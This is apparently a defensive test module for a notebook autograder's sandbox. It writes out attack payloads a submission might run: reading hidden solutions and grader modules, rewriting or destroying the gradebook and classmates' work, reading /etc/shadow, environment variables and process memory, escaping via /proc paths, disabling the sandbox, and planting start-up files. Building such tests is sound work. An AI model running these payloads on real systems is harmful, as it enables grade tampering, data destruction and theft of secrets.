"""Attacks that read what the learner must not see, or write where the learner must not write."""
# ruff: noqa: E501 (an attack is written in as few lines as it takes)

from hostile import code

# What is found is printed alone: of long outputs the grader keeps the beginning only.
READ = """
import re
def read(path):
    try:
        with open(path, "rb") as file: return file.read(2_000_000).decode("latin-1")
    except Exception as error:
        return f"{path}: {error}"
def tell(text):
    if found := re.findall("canary(?:-[a-z0-9]+)+", text): print(*found)
"""
# Nothing is taken away from a file, so that what succeeds one day can be mended.
APPEND = """
import os
def append(path, data):
    try: os.chmod(path, 0o666)
    except OSError as error: print(error)
    for flags in (os.O_WRONLY | os.O_APPEND, os.O_RDWR):
        try:
            file = os.open(path, flags)
            os.lseek(file, 0, os.SEEK_END); os.write(file, data); os.close(file)
            print("OPENED", path)
            return
        except OSError as error: print(error)
"""


@code("the solutions: read from the source notebook, and run", worth=10.0)
def source_notebook(desk):
    scale = f"""
import json
text = read({str(desk.source)!r}); tell(text)
try:
    for one in json.loads(text)["cells"]:
        if "def scale" in "".join(one["source"]): exec("".join(one["source"]))
except ValueError: pass
"""
    return {"scale": READ + scale}


@code("the grader's declarations, where hidden cases are made: imported, and read")
def graders_modules(desk):
    return (
        READ
        + f"""
import importlib, inspect, sys
repository = {str(desk.repository)!r}
sys.path[:0] = [repository, repository + "/tests"]
for name in ("autograders.assignments.small", "autograders.engine.exercise", "autograders.assignments.step_by_step_rnn", "hostile.assignment"):
    try:
        text = inspect.getsource(importlib.import_module(name)); print(text.partition("\\n")[0]); tell(text)
    except Exception as error: print(error)
for name in ("autograders/engine/exercise.py", "autograders/assignments/step_by_step_rnn/basic.py", "tests/support/hostile/assignment.py"):
    text = read(repository + "/" + name); print(text.partition("\\n")[0]); tell(text)
"""
    )


@code("everybody's marks: the gradebook read and printed")
def gradebook_read(desk):
    return (
        READ
        + f"""
import sqlite3
tell(read({str(desk.gradebook)!r}))
try: tell(repr(sqlite3.connect({str(desk.gradebook)!r}, timeout=2).execute("select * from student").fetchall()))
except Exception as error: print(error)
"""
    )


@code("full marks for oneself, none for others: the gradebook written")
def gradebook_written(desk):
    return f"""
import sqlite3
mine = "select one.id from submitted_notebook one join submitted_assignment whole on one.assignment_id = whole.id where whole.student_id = '{desk.student}'"
try:
    base = sqlite3.connect({str(desk.gradebook)!r}, timeout=2)
    base.execute(f"update grade set manual_score = 0, needs_manual_grade = 0 where notebook_id not in ({{mine}})")
    base.execute(f"update grade set manual_score = 10, needs_manual_grade = 0 where notebook_id in ({{mine}})")
    base.commit(); print("OPENED the gradebook")
except Exception as error: print(error)
"""


@code("no marks for anybody: the gradebook destroyed")
def gradebook_destroyed(desk):
    return f"""
try:
    with open({str(desk.gradebook)!r}, "r+b") as file: file.write(b"gone" * 1000)
    print("OPENED the gradebook")
except Exception as error: print(error)
"""


@code("words of one's own in everybody's comments: the gradebook written")
def gradebook_commented(desk):
    return (
        APPEND
        + f"""
import sqlite3
try:
    base = sqlite3.connect({str(desk.gradebook)!r}, timeout=2)
    base.execute("update comment set manual_comment = '{desk.marker}'")
    base.execute("update student set first_name = '{desk.marker}'")
    base.commit(); print("OPENED the gradebook")
except Exception as error: print(error)
"""
    )


@code("other hidden cases: the graders' modules, and the module that declares this assignment's, written")
def hidden_cases_written(desk):
    return (
        APPEND
        + f"""
import glob
repository = {str(desk.repository)!r}
for path in ["autograders/engine/exercise.py", "autograders/assignments/step_by_step_rnn/basic.py", "autograders/engine/judge.py", "tests/support/hostile/assignment.py"]:
    append(repository + "/" + path, b"\\nif 'Exercise' in dir(): Exercise.hidden_cases = lambda self, seed: tuple(self.public_cases())  # {desk.marker}\\n")
for path in glob.glob(repository + "/autograders/*.py"): append(path, b"\\n# {desk.marker}\\n")
"""
    )


@code("one's own wrong solution for the right one: the source notebook written")
def solutions_written(desk):
    return (
        APPEND
        + f"""
import json
path = {str(desk.source)!r}
append(path, b"\\n")
try:
    with open(path) as file: notebook = json.load(file)
    for one in notebook["cells"]:
        if one["source"] and "def scale" in "".join(one["source"]):
            one["source"] = "def scale(x, factor, name):\\n    return x + 1  # {desk.marker}\\n"
    with open(path, "w") as file: json.dump(notebook, file)
    print("OPENED", path)
except (OSError, ValueError) as error: print(error)
"""
    )


@code("other public cases for everybody: the released notebook and its checks written")
def release_written(desk):
    return (
        APPEND
        + f"""
import glob, zipfile
released = {str(desk.released)!r}
checks = released.replace(".ipynb", ".checks.zip")
try:
    with zipfile.ZipFile(checks, "a") as archive: archive.writestr("{desk.marker}.json", "{{}}  # {desk.marker}")
    print("OPENED", checks)
except (OSError, zipfile.BadZipFile) as error: print(error)
for path in {{released, checks, *glob.glob(os.path.dirname(released) + "/*")}}: append(path, b"\\n{desk.marker}")
"""
    )


@code("other settings for the grader: the course's own configuration written")
def settings_written(desk):
    settings = str(desk.root / "nbgrader_config.py")
    return f"{APPEND}append({settings!r}, b'\\nc.RunAndJudge.sandbox = False  # {desk.marker}\\n')\n"


@code("another's work: a neighbour's submission found, printed and run")
def neighbours_work(desk):
    return (
        READ
        + f"""
import glob
tell(read({str(desk.other)!r}))
for folder in ({str(desk.root)!r}, "..", "../..", "../../.."):
    for path in glob.glob(folder + "/**/*.ipynb", recursive=True): tell(read(path))
"""
    )


@code("a neighbour's work destroyed: written over, in submitted/ and in autograded/")
def neighbours_work_spoiled(desk):
    return f"""
import glob, os
for path in [{str(desk.other)!r}, *glob.glob({str(desk.root)!r} + "/*/*/*/*.ipynb")]:
    try:
        os.chmod(path, 0o666); open(path, "w").write("{{}}")
    except Exception as error: print(error)
"""


@code("the operator's secrets: environment, keys, password files, other processes' memory")
def operators_secrets(desk):
    return (
        READ
        + """
import glob, os
for path in ["/etc/shadow", "/proc/1/cwd/etc/shadow", "/var/log/auth.log", *glob.glob("/proc/*/environ"), *glob.glob("/home/*/.*"),
             *glob.glob("/proc/*/cmdline"), "/proc/keys", "/proc/kcore", "/dev/mem", "/dev/sda", "/dev/vda"]:
    tell(read(path))
tell(repr(dict(os.environ)))
"""
    )


@code("the grader's own memory, through /proc/*/mem and process_vm_readv")
def graders_memory(desk):
    return """
import ctypes, os
for pid in ["1", "self", *[name for name in os.listdir("/proc") if name.isdigit()], *map(str, range(2, 400))]:
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                if "rw-p" in line and "[heap]" in line:
                    low, high = (int(x, 16) for x in line.split()[0].split("-"))
                    memory.seek(low); data = memory.read(high - low)
                    at = data.find(b"canary-solution-" + b"5d41")
                    if at >= 0: print(pid, data[at:at + 60])
    except Exception: pass
"""


@code("ways round the walls: /proc/1/root, /proc/self/cwd, open descriptors, the old root")
def ways_round(desk):
    return (
        READ
        + f"""
import glob, os
for way in ("/proc/1/root", "/proc/self/root", "/proc/1/cwd/../../..", "/.old_root", "/oldroot", "/mnt", "/run/host", "/proc/self/fd/../root"):
    tell(read(way + {str(desk.source)!r}))
for fd in range(3, 400):
    try:
        print(fd, os.readlink(f"/proc/self/fd/{{fd}}"))
        inside = os.open("..", os.O_RDONLY, dir_fd=fd); print(os.listdir(inside))
    except OSError: pass
"""
    )


@code("to be there for the next learner: the helpers, the environment and start-up files written")
def everything_written(desk):
    return f"""
import glob, os, site, sys
places = [{str(desk.repository)!r}, {str(desk.repository / "helpers")!r}, {str(desk.root)!r}, "/tmp", "/var/tmp", "/dev/shm", "/root",
          "/etc", "/usr/lib/python3", sys.prefix, sys.base_prefix, *site.getsitepackages(), os.path.expanduser("~"), "/run", "/",
          os.path.expanduser("~/.ipython/profile_default/startup"), os.path.expanduser("~/.jupyter"), "/etc/ipython/startup"]
for place in places:
    for name in ("{desk.marker}", "{desk.marker}.pth", "sitecustomize.py"):
        path = os.path.join(place, name)
        try:
            os.makedirs(place, exist_ok=True)
            with open(path, "x") as file: file.write("import os  # {desk.marker}\\n")
        except OSError: pass
import helpers.check.comparing
try: open(helpers.check.comparing.__file__, "a").write("\\n# {desk.marker}\\n")
except OSError: pass
"""


@code("a released notebook with the answers in it, for everybody: release/ and notebooks/ written")
def course_written(desk):
    return f"""
import glob, os
for folder in ("release", "notebooks", "feedback", "reports", "autograded"):
    try: open(os.path.join({str(desk.root)!r}, folder, "{desk.marker}"), "w").close()
    except OSError as error: print(error)
"""
